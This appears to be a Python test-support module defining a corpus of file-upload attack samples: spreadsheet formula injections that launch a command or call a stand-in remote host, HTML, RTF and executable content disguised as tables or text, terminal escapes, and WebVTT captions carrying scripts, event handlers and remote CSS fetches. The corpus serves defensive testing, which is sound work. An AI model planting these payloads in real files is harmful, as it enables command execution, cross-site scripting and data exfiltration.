"""Tables, plain texts and captions that the program which opens them obeys."""

from tests.support.attack_corpus.attack import FAR, RUN, Attack, attached

ACTIVE, REMOTE, FORM, BROKEN = "FOR-009", "FOR-010", "FOR-001", "FOR-005"
CUE = "00:00.000 --> 00:01.000"


def table(name: str, rows: str | bytes, *codes: str, file: str = "a.csv") -> Attack:
    """Return an attack by a table that a spreadsheet opens."""
    return attached(name, file, rows, *codes)


def captions(name: str, more: str, *codes: str, acts: bool = True) -> Attack:
    """Return an attack by captions."""
    return attached(name, "a.vtt", f"WEBVTT\n\n{more}\n", *codes, acts=acts)


def style(name: str, sheet: str) -> Attack:
    """Return an attack by a style of captions."""
    return captions(name, f"STYLE\n{sheet}\n\n{CUE}\nBonjour", REMOTE)


ATTACKS: tuple[Attack, ...] = (
    table("link of a table", f'a;b\n=HYPERLINK("{FAR}/");1\n', ACTIVE),
    table("program of a table", "a;b\n=cmd|' /C calc'!A0;1\n", ACTIVE),
    table("program after a plus", "a;b\n+cmd|' /C calc'!A0;1\n", ACTIVE),
    table("program after a minus", "a;b\n-2+cmd|' /C calc'!A0;1\n", ACTIVE),
    table("program after an at sign", "a;b\n@SUM(1+1)*cmd|' /C calc'!A0;1\n", ACTIVE),
    table("program in quotes", "a;\"=cmd|' /C calc'!A0\"\n", ACTIVE),
    table("program after a space", "a; =cmd|' /C calc'!A0\n", ACTIVE),
    table("program after a tab", "a;\t=cmd|' /C calc'!A0\n", ACTIVE),
    table("program behind a comma", "a,=cmd|' /C calc'!A0\n", ACTIVE),
    table("program behind a tab", "a\t=1+1\n", ACTIVE, file="a.tsv"),
    table("program on the first line", "=1+1", ACTIVE),
    table("program on an old line end", "a;b\r=1+1;2\r", ACTIVE),
    table("program in another code", "a;b\n=1+1;2\n".encode("utf-16"), ACTIVE),
    table("program after a mark", "=1+1;2\n".encode("utf-8-sig"), ACTIVE),
    table("request of a table", f'a;"=WEBSERVICE(""{FAR}/""&A1)"\n', ACTIVE),
    table("import of a table", f'a\n=IMPORTXML(""{FAR}/"";""//a"")\n', ACTIVE),
    table("table of another program", 'ID;PWXL;N;E\nC;X1;Y1;ECALL("a")\nE\n', ACTIVE),
    table("page named table", f"<script>{RUN}</script>", FORM),
    table("program named table", b"MZ" + bytes(99), FORM),
    attached(
        "page named text", "a.txt", f"<!doctype html><script>{RUN}</script>", FORM, acts=False
    ),
    attached("document named text", "a.txt", b"{\\rtf1 {\\object}}", FORM, acts=False),
    attached("orders to a terminal", "a.txt", b"\x1b]0;a\x07 mot", BROKEN, acts=False),
    attached("script in a code of old", "a.txt", b"+ADw-script+AD4-alert(1)", acts=False),
    attached("text that reads backwards", "a.txt", "Un \u202emot".encode(), acts=False),
    style("image of captions", f"::cue {{ background: url({FAR}/x.png) }}"),
    style("sheet of captions", f"@import '{FAR}/x.css';"),
    style("sheet of captions, in escapes", "\\40 import 'x.css';"),
    style("image of captions, in escapes", f"::cue {{ background: u\\72l({FAR}/x.png) }}"),
    style("set of images of captions", f"::cue {{ background: image-set('{FAR}/x.png' 1x) }}"),
    captions("script in captions", f"{CUE}\n<script>{RUN}</script>", acts=False),
    captions("image in captions", f"{CUE}\n<img src={FAR}/x.png onerror={RUN}>", acts=False),
    captions("handler in captions", f"{CUE}\n<c.a onclick={RUN}>a</c>", acts=False),
    captions("place that is a script", f"{CUE} position:<script>{RUN}</script>\na", acts=False),
    captions("name that is a script", f"<script>{RUN}</script>\n{CUE}\na", acts=False),
    captions("region", f"REGION\nid:a\nwidth:40%\n\n{CUE} region:a\nBonjour", acts=False),
)
